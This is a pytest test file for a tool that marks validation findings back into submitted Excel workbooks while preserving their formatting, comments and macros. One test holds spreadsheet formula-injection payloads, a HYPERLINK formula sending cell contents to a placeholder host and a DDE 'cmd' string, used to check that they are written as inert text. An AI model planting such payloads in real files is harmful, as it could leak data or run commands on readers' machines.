"""The sender's own workbook back: marked where something was found, and everything else as it was."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.worksheet.worksheet import Worksheet

from ingest import catalogue, formats, marked, period
from ingest.place import column_letters, in_sheet
from ingest.readers.marks import FINDINGS_SHEET, PASSED, RESULT_HEADING
from ingest.readers.sheets import Book
from ingest.readers.workbook import INPUT_SHEET
from ingest.sentences import finding
from ingest.submission import Finding
from ingest.template import write
from tests.ingest.test_template import CELLS, DATASET, UNIT, filled
from tests.ingest.test_workbook import LONG, rewritten, workbook

RESULT = "K"  # beside the note of a template


def at(cell: str, sheet: str = INPUT_SHEET) -> str:
    return f'Sheet "{sheet}", {cell}'


RULES = catalogue.read().rules
OUT_OF_RANGE = finding(RULES["value_is_in_range"], severity="error", place=at("H9"), found="145.8", expected="0..100")
NO_NUMBER = finding(RULES["value_is_a_number"], severity="error", place=at("H10"), found="=abc")
FELL = Finding("fell", "warning", at("H10"), "abc", "", "Giảm 50 % so với TP. Huế. Hãy xem lại.", "It fell. Look.")
GONE = Finding("row_gone", "information", f'Sheet "{INPUT_SHEET}"', "", "X", "Mất một dòng.", "A row is gone.")
WHOLE = Finding("whole", "warning", "", "@SUM(A1)", "-5", "Cả tệp.", "The file.", "đúng", "lan")
FINDINGS = [OUT_OF_RANGE, NO_NUMBER, FELL, GONE, WHOLE]
PLACES = [at("H9"), at("H11")]


@pytest.fixture(scope="module")
def sent() -> bytes:
    def remark(book: openpyxl.Workbook) -> None:
        sheet = book[INPUT_SHEET]
        sheet["H10"].comment = Comment("Số này của sở", "Lan")
        sheet["C11"].comment = Comment("Xem công văn", "Lan")
        sheet["J11"] = "=1+1"

    return filled(write(DATASET, UNIT, period.parse("2026-Q3"), CELLS), {"H9": 145.8, "H10": "abc", "H11": 7}, remark)


@pytest.fixture(scope="module")
def back(sent: bytes) -> bytes:
    return marked.mark(sent, FINDINGS, PLACES)


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def opened(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content), rich_text=True)


def saved(book: openpyxl.Workbook) -> bytes:
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


def marks(sheet: Worksheet) -> dict[str, tuple[str | None, str | None]]:
    """The cells under a mark, with the colour and the kind of edge that is laid over them."""
    return {
        cell: (rule.dxf.fill.bgColor.rgb, rule.dxf.border.left.style)
        for format_ in sheet.conditional_formatting
        for rule in format_.rules
        for cell in str(format_.sqref).split()
        if rule.formula == ['"Chiso"="Chiso"']
    }


def look(sheet: Worksheet, *, without: str) -> dict[str, Any]:
    """Everything of a sheet that a person sees, but for a column."""
    cells = {
        cell.coordinate: (str(cell.value), cell.number_format, repr(cell.font), repr(cell.fill), repr(cell.border),
                          repr(cell.alignment), repr(cell.protection))
        for row in sheet.iter_rows() for cell in row if cell.column_letter != without and cell.has_style
    }  # fmt: skip
    return {
        "cells": cells,
        "merged": sorted(map(str, sheet.merged_cells.ranges)),
        "widths": {
            name: (each.width, each.hidden) for name, each in sheet.column_dimensions.items() if name != without
        },
        "heights": {line: each.height for line, each in sheet.row_dimensions.items()},
        "validations": sorted(f"{each.sqref} {each.formula1}" for each in sheet.data_validations.dataValidation),
        "protection": repr(sheet.protection),
        "frozen": sheet.freeze_panes,
        "state": sheet.sheet_state,
        "print": (
            sheet.print_area,
            sheet.print_title_rows,
            repr(sheet.page_setup),
            sheet.oddFooter.left.text,
            sheet.oddFooter.right.text,
        ),
    }


def test_the_result_of_each_row_with_figures_stands_beside_the_table(back: bytes) -> None:
    sheet = opened(back)[INPUT_SHEET]
    assert [sheet[f"{RESULT}{line}"].value for line in range(7, 13)] == [
        None,
        RESULT_HEADING,
        "LỖI: 145,8 nằm ngoài khoảng cho phép (0..100).",
        "LỖI: “=abc” không phải là số. (+1)",
        PASSED,
        None,
    ]
    warned = marked.mark(back, [FELL], [])
    assert opened(warned)[INPUT_SHEET][f"{RESULT}10"].value == "CẢNH BÁO: Giảm 50 % so với TP. Huế."


def test_a_cell_with_findings_is_marked_and_has_one_comment_behind_what_stood_there(back: bytes) -> None:
    sheet = opened(back)[INPUT_SHEET]
    assert marks(sheet) == {"H9": ("FFFFC7CE", "thin"), "H10": ("FFFFC7CE", "thin")}
    assert marks(opened(marked.mark(back, [FELL], []))[INPUT_SHEET]) == {"H10": ("FFFFEB9C", "dashed")}
    texts = {cell: sheet[cell].comment.text for cell in ("H9", "H10", "C11")}
    assert texts["C11"] == "Xem công văn"
    assert texts["H10"].startswith("Số này của sở\n\nChiso – kết quả kiểm tra / findings\nLỖI: “=abc”")
    for said in (NO_NUMBER.vi, NO_NUMBER.en, FELL.vi, FELL.en):
        assert said in texts["H10"]
    assert texts["H9"].startswith("Chiso –")


def test_all_findings_are_listed_with_a_link_to_their_cell(back: bytes) -> None:
    book = opened(back)
    sheet = book[FINDINGS_SHEET]
    assert book.sheetnames[-1] == FINDINGS_SHEET
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=7)]
    assert rows[1] == [
        "2", 'Trang tính "Nhập liệu", ô H10', "LỖI\nERROR", "value_is_a_number", "'=abc", None,
        NO_NUMBER.vi, NO_NUMBER.en, None,
    ]  # fmt: skip
    assert rows[4][1:6] == ["cả tệp / whole file", "CẢNH BÁO\nWARNING", "whole", "'@SUM(A1)", "-5"]
    assert rows[4][8] == "đúng (lan)"
    assert [(row[1].hyperlink.location if row[1].hyperlink else None) for row in sheet.iter_rows(min_row=7)] == [
        "'Nhập liệu'!H9",
        "'Nhập liệu'!H10",
        "'Nhập liệu'!H10",
        None,
        None,
    ]
    assert str(sheet["A2"].value).startswith("Lỗi: 2, cảnh báo: 2, thông tin: 1 / Errors: 2")


def test_everything_else_is_as_it_was(sent: bytes, back: bytes) -> None:
    before, after = opened(sent), opened(back)
    assert after.sheetnames == [*before.sheetnames, FINDINGS_SHEET]
    for name in before.sheetnames:
        assert look(after[name], without=RESULT) == look(before[name], without=RESULT)
    assert after[INPUT_SHEET].protection.sheet
    assert after[INPUT_SHEET][f"{RESULT}9"].protection.locked
    old, new = parts(sent), parts(back)
    changed = {name for name, content in new.items() if old.get(name) != content}
    assert changed - old.keys() == {"xl/worksheets/sheet4.xml"}
    assert changed & old.keys() == {
        "[Content_Types].xml",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
        "xl/comments/comment1.xml",
        "xl/drawings/commentsDrawing1.vml",
    }


def test_a_second_marking_takes_the_place_of_the_first(sent: bytes, back: bytes) -> None:
    assert parts(marked.mark(back, FINDINGS, PLACES)) == parts(back)
    nothing = opened(marked.mark(back, [], []))
    before = opened(sent)
    assert look(nothing[INPUT_SHEET], without=RESULT) == look(before[INPUT_SHEET], without=RESULT)
    assert [cell.value for cell in nothing[INPUT_SHEET][RESULT]] == [None] * 11
    assert marks(nothing[INPUT_SHEET]) == {}
    comments = {cell.coordinate: cell.comment.text for row in nothing[INPUT_SHEET] for cell in row if cell.comment}
    assert comments == {"H10": "Số này của sở", "C11": "Xem công văn"}


def test_the_marked_workbook_is_mended_and_read_again_as_if_it_were_not_marked(back: bytes) -> None:
    book = opened(back)
    book[INPUT_SHEET]["H9"], book[INPUT_SHEET]["H10"] = 45.8, 50
    mended = saved(book)
    reading = formats.read(mended)
    assert reading.findings == []
    assert reading.frame["value"].tolist()[:2] == ["45.8", "50"]
    again = opened(marked.mark(mended, [], [at("H9"), at("H10")]))
    assert again.sheetnames.count(FINDINGS_SHEET) == 1
    sheet = again[INPUT_SHEET]
    assert [sheet[f"{RESULT}{line}"].value for line in (8, 9, 10, 11)] == [RESULT_HEADING, PASSED, PASSED, None]
    assert (marks(sheet), sheet["H9"].comment, sheet["H10"].comment.text) == ({}, None, "Số này của sở")


def test_the_long_format_passes_over_our_column_but_not_over_what_a_person_typed_into_it() -> None:
    wrong = finding(
        RULES["value_is_in_range"], severity="error", place=at("D2", "Số liệu"), found="86", expected="0..1"
    )
    back = marked.mark(workbook(LONG), [wrong], [at("D3", "Số liệu")])
    sheet = opened(back)["Số liệu"]
    assert [cell.value for cell in sheet["E"]] == [RESULT_HEADING, "LỖI: 86 nằm ngoài khoảng cho phép (0..1).", PASSED]
    assert formats.read(back).findings == []
    assert len(formats.read(back).frame) == 2
    book = opened(back)
    book["Số liệu"]["E3"] = "97,1"
    (refused,) = formats.read(saved(book)).findings
    assert (refused.rule, refused.place) == ("unknown_column", at("E1", "Số liệu"))


def test_what_a_spreadsheet_would_run_is_never_written_as_a_formula(back: bytes) -> None:
    evil = '=HYPERLINK("http://a/?"&A1)<&>\x00'
    made = finding(
        RULES["value_is_a_number"], severity="error", place=at("H9"), found=evil, expected="+1+cmd|' /C calc'!A0"
    )
    written = parts(marked.mark(back, [made], []))
    for name, content in written.items():
        if name.startswith("xl/worksheets/") and b"=HYPERLINK" in content:
            assert b"<f>=" not in content
            assert content.count(b"<f>") == parts(back)[name].count(b"<f>")
    sheet = opened(marked.mark(back, [made], []))[FINDINGS_SHEET]
    found, expected = sheet["E7"], sheet["F7"]
    assert (found.data_type, found.value[:12]) == ("s", "'=HYPERLINK(")
    assert str(expected.value).startswith("'+1+cmd")
    assert (found.number_format, found.quotePrefix) == ("@", True)


def with_macros(content: bytes) -> bytes:
    package = parts(content)
    package["xl/vbaProject.bin"] = bytes(range(256)) * 40
    package["xl/printerSettings/printerSettings1.bin"] = b"\x00printer"
    package["xl/drawings/drawing1.xml"] = b"<xdr:wsDr xmlns:xdr='x'><unknown/></xdr:wsDr>"
    package["[Content_Types].xml"] = package["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in package.items():
            archive.writestr(name, part)
    return written.getvalue()


def test_macros_and_what_no_library_knows_stay_byte_for_byte(sent: bytes) -> None:
    given = with_macros(sent)
    before, after = parts(given), parts(marked.mark(given, FINDINGS, PLACES))
    for name in ("xl/vbaProject.bin", "xl/printerSettings/printerSettings1.bin", "xl/drawings/drawing1.xml"):
        assert after[name] == before[name]
    assert b"macroEnabled.main+xml" in after["[Content_Types].xml"]
    assert marked.named("Báo cáo.xlsm", given) == (
        "Báo cáo-kiem-tra.xlsm",
        "application/vnd.ms-excel.sheet.macroEnabled.12",
    )
    assert marked.named("Báo cáo.csv", b"a,b")[0] == "Báo cáo-kiem-tra.xlsx"


@pytest.mark.parametrize(
    "content", [b"indicator,value\nA,1\n", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x03\x04cut", b""]
)
def test_of_what_is_no_workbook_there_is_a_list_that_says_so(content: bytes) -> None:
    found = finding(RULES["value_is_a_number"], severity="error", place='line 2, column "value"', found="nhiều")
    book = opened(marked.mark(content, [found], ['line 3, column "value"']))
    assert book.sheetnames == [FINDINGS_SHEET]
    sheet = book[FINDINGS_SHEET]
    assert "Không ghi được kết quả vào tệp đã gửi" in str(sheet["A3"].value)
    assert [cell.value for cell in sheet[7]][1:5] == ['dòng 2, cột "value"', "LỖI\nERROR", "value_is_a_number", "nhiều"]


def with_prefix(content: bytes) -> bytes:
    """The sheet as the Open XML SDK writes it: every tag with a prefix, cells and rows without their references."""
    content = re.sub(rb"<(/?)(?=[a-z])", rb"<\1x:", content).replace(b"xmlns=", b"xmlns:x=")
    return re.sub(rb'(<x:(?:row|c)\b[^>]*?) r="[^"]*"', rb"\1", content)


def without_rows(content: bytes) -> bytes:
    """The second row gone, the third one empty."""
    content = re.sub(rb'<row r="2".*?</row>', b"", content)
    return re.sub(rb'<row r="3".*?</row>', b'<row r="3" spans="1:4" ht="20"/>', content)


@pytest.mark.parametrize("change", [with_prefix, without_rows, lambda content: content.replace(b'"', b"'")])
def test_sheets_are_marked_however_their_xml_is_written(change: Callable[[bytes], bytes]) -> None:
    given = rewritten(workbook([*LONG, ["X", "VN", 2020, 5]]), "xl/worksheets/sheet1.xml", change)
    wrong = [
        finding(RULES["value_is_given"], severity="error", place=at(f"D{line}", "Số liệu"), found="")
        for line in (2, 3, 4, 7)
    ]
    sheet = opened(marked.mark(given, wrong, []))["Số liệu"]
    filled_lines = [cell.row for cell in sheet["E"] if str(cell.value).startswith("LỖI: Thiếu giá trị.")]
    assert filled_lines == [2, 3, 4, 7]
    assert sheet["E1"].value == RESULT_HEADING
    assert set(marks(sheet)) == {"D2", "D3", "D4", "D7"}
    assert (sheet["A4"].value, sheet["D4"].value) == ("X", 5)


def test_a_thread_of_comments_is_left_as_it_is(sent: bytes, back: bytes) -> None:
    def as_thread(content: bytes) -> bytes:
        return content.replace(b"<author>Lan</author>", b"<author>tc={6F7195B3}</author>")

    given = rewritten(sent, "xl/comments/comment1.xml", as_thread)
    assert given != sent
    sheet = opened(marked.mark(given, FINDINGS, PLACES))[INPUT_SHEET]
    assert sheet["H10"].comment.text == "Số này của sở"
    assert set(marks(sheet)) == {"H9", "H10"}


def test_a_signature_that_is_not_true_any_more_is_taken_out(sent: bytes) -> None:
    package = parts(sent)
    signed = io.BytesIO()
    relation = b'<Relationship Id="s" Type="http://x/digital-signature/origin" Target="_xmlsignatures/origin.sigs"/>'
    package["_rels/.rels"] = package["_rels/.rels"].replace(b"</Relationships>", relation + b"</Relationships>")
    package["_xmlsignatures/origin.sigs"] = b""
    with zipfile.ZipFile(signed, "w") as archive:
        for name, part in package.items():
            archive.writestr(name, part)
    after = parts(marked.mark(signed.getvalue(), FINDINGS, PLACES))
    assert "_xmlsignatures/origin.sigs" not in after
    assert after["_rels/.rels"] == parts(sent)["_rels/.rels"]


@pytest.fixture(scope="module")
def monthly(shared_data: Path) -> bytes:
    return (shared_data / "gso_workbooks" / "2024-06-29-02.Bieu-T6.2024.xlsx").read_bytes()


INVESTMENT, RETAIL = "22. VDT TTNSNN", "25.Tongmuc"


def test_a_monthly_workbook_comes_back_with_every_cell_and_format_of_its_own(monthly: bytes) -> None:
    table = Book(monthly).sheet(INVESTMENT)
    figures = [
        at(f"{column_letters(column)}{line}", INVESTMENT)
        for line, row in enumerate(table.rows[9:], 10)
        for column, cell in enumerate(row)
        if isinstance(cell, float)
    ]
    wrong = finding(RULES["value_is_in_range"], severity="warning", place=figures[3], found="1", expected="2")
    back = marked.mark(monthly, [wrong], figures)
    old, new = parts(monthly), parts(back)
    touched = [name for name in old if new[name] != old[name] and name.startswith("xl/worksheets/sheet")]
    assert (len(touched), old.keys() - new.keys()) == (1, set())
    before, after = Book(monthly), Book(back)
    assert after.names == before.names
    for name in before.names:
        own, marked_too = before.sheet(name), after.sheet(name)
        assert [row[: len(own.rows[0])] for row in marked_too.rows] == own.rows
        assert (marked_too.merged, marked_too.hidden) == (own.merged, own.hidden)
    unmarked, sheet = (openpyxl.load_workbook(io.BytesIO(each))[INVESTMENT] for each in (monthly, back))
    (column,) = {cell.column_letter for row in sheet for cell in row if cell.value == RESULT_HEADING}
    assert all(cell.value is None for cell in unmarked[column])
    assert look(sheet, without=column)["cells"] == look(unmarked, without=column)["cells"]
    assert look(sheet, without=column)["merged"] == look(unmarked, without=column)["merged"]
    results = {cell.row: str(cell.value) for cell in sheet[column] if cell.value}
    lines = {line for _, _, line in filter(None, map(in_sheet, figures))}
    assert {line for line, said in results.items() if said == PASSED} == lines - {in_sheet(wrong.place)[2]}


def test_the_widths_of_a_span_of_columns_stay_beside_ours() -> None:
    def one_span(content: bytes) -> bytes:
        cols = b'<cols><col min="2" max="16384" width="8.5" hidden="1" style="0"/></cols><sheetData>'
        return content.replace(b"<sheetData>", cols)

    given = rewritten(workbook(LONG), "xl/worksheets/sheet1.xml", one_span)
    for content in (given, marked.mark(given, [], [])):  # the second is not ours to widen: nothing was read
        back = parts(marked.mark(content, [], [at("D2", "Số liệu")]))["xl/worksheets/sheet1.xml"]
        spans = re.findall(rb'<col min="(\d+)" max="(\d+)" width="([\d.]+)"( hidden="1")?', back)
        assert spans == [
            (b"2", b"4", b"8.5", b' hidden="1"'),
            (b"5", b"5", b"46", b""),
            (b"6", b"16384", b"8.5", b' hidden="1"'),
        ]


def test_a_table_that_leaves_no_column_free_gives_the_list_alone() -> None:
    def far(sheet: Worksheet) -> None:
        sheet["XFD2"] = 1

    book = opened(marked.mark(workbook(LONG, far), [WHOLE], [at("D2", "Số liệu")]))
    assert book.sheetnames == [FINDINGS_SHEET]


def test_the_list_that_was_given_for_another_kind_of_file_is_no_return() -> None:
    (refused,) = formats.read(marked.mark(b"a,b", [WHOLE], [])).findings
    assert refused.rule == "unknown_workbook"
